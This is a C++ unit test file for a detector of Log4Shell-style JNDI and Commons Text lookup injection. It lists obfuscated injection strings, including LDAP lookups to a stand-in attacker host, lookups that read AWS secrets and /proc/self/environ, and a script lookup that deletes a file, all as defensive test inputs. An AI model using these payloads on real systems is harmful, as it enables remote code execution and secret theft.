#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"
#include "tests/unit/detect/detector_cases.h"

namespace fnguard::detect {
namespace {

using testing::Case;
using testing::Detects;

std::string Repeat(const std::string& s, size_t n) {
  std::string r;
  r.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) r += s;
  return r;
}

TEST(JndiTest, DetectsAttacks) {
  const std::vector<std::string> attacks = {
      "${jndi:ldap://attacker.example/a}",
      "${jndi:rmi://x/y}",
      "${jndi:dns://x}",
      "${JNDI:LDAP://x/a}",
      "${${lower:j}ndi:ldap://x/a}",
      "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
      "${${env:NOPE:-j}ndi:ldap://x/}",
      "${j${k8s:k5:-ND}i:ldap://x/}",
      "${${upper:j}ndi:iiop://x/}",
      "${${date:'j'}${date:'n'}di:ldap://x}",
      "${j${lower:Nd}i${upper::}//x/a}",
      "${env:AWS_SECRET_ACCESS_KEY}",
      "${sys:java.version}",
      "${ctx:loginId}",
      "${main:0}",
      "GET ${jndi:nis://x}",
  };
  for (const std::string& a : attacks) {
    Case c;
    c.value = a;
    EXPECT_TRUE(Detects(JndiDetector(), c)) << a;
    c.location = event::Location::kBody;
    c.path = "body.v";
    EXPECT_TRUE(Detects(JndiDetector(), c)) << a;
  }
}

TEST(JndiTest, IgnoresBenign) {
  const std::vector<std::string> benign = {
      "${HOME}",
      "$100",
      "{\"a\":\"${x}\"}",
      "price ${amount}",
      "${user.name}",
  };
  for (const std::string& b : benign) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(JndiDetector(), c, &m)) << b << " -> " << m.rule_id;
    c.location = event::Location::kBody;
    c.path = "body.text";
    EXPECT_FALSE(Detects(JndiDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

TEST(JndiTest, CompletesOnPathologicalInput) {
  testing::RunsOnLargeInput(JndiDetector(), std::string(1 << 20, '$'));
  testing::RunsOnLargeInput(JndiDetector(), Repeat("${", 1 << 19));
  testing::RunsOnLargeInput(JndiDetector(), Repeat("${${", 1 << 18) + "jndi:");
  testing::RunsOnLargeInput(JndiDetector(), Repeat("${a:-", 1 << 17));
}

TEST(JndiTest, ReportsItsId) {
  EXPECT_EQ(Get(JndiDetector().id()).id(), JndiDetector().id());
}

TEST(JndiTest, ObfuscationIsReported) {
  Case c;
  c.value = "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://x/a}";
  Match m;
  ASSERT_TRUE(Detects(JndiDetector(), c, &m));
  EXPECT_EQ(m.rule_id, "jndi.obfuscated_lookup");
  EXPECT_EQ(m.score, 100);
}

TEST(JndiTest, CommonsTextLookupsThatAct) {
  const std::vector<std::string> attacks = {
      "${script:js:new java.io.File('/tmp/q').delete()}",
      "${url:ISO-8859-1:https://probe.example/k}",
      "${file:UTF-8:/proc/self/environ}",
      "${dns:probe.example}",
      "${dns:canonical-name|probe.example}",
      "x ${${lower:S}cript:groovy:1+1} y",
  };
  for (const std::string& a : attacks) {
    Case c;
    c.value = a;
    Match m;
    EXPECT_TRUE(Detects(JndiDetector(), c, &m)) << a;
    EXPECT_EQ(m.rule_id, "jndi.commons_text_lookup") << a;
  }
  // Template placeholders that only share the names.
  for (const char* b : {"${url}", "${file}", "${script:}", "link: ${url:}",
                         "${dns:localhost}", "${url:UTF-8:"}) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(JndiDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}


TEST(JndiTest, DirectoryPropertiesInLogPaths) {
  // A logging configuration's path names a directory property.
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:catalina.home}/logs/app-%d.log"), "");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:java.io.tmpdir}/x"), "");
  // And an environment variable that holds an application's directory.
  EXPECT_EQ(testing::RuleOf(JndiDetector(),
                            "appender.file.fileName = ${env:LOG_DIR:-/var/log/app}/app.log"),
            "");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:CATALINA_HOME}/conf"), "");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:AWS_SECRET_ACCESS_KEY}"),
            "jndi.sensitive_lookup");
  EXPECT_NE(testing::RuleOf(JndiDetector(), "${jndi:ldap://x.example/${env:LOG_DIR}}"), "");
  // Other properties and the environment still leak.
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:user.name}"), "jndi.sensitive_lookup");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:HOME}"), "jndi.sensitive_lookup");
  EXPECT_NE(testing::RuleOf(JndiDetector(), "${jndi:ldap://${sys:user.home}.e.test/a}"), "");
}

TEST(JndiTest, LookupNestedInItsOwnKey) {
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${${::-${::-$${::-j}}}}"), "jndi.recursive_lookup");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${${:-${::-x}}}"), "jndi.recursive_lookup");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${${lower:x}}"), "");
  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${${project.version}}"), "");
}

}  // namespace
}  // namespace fnguard::detect
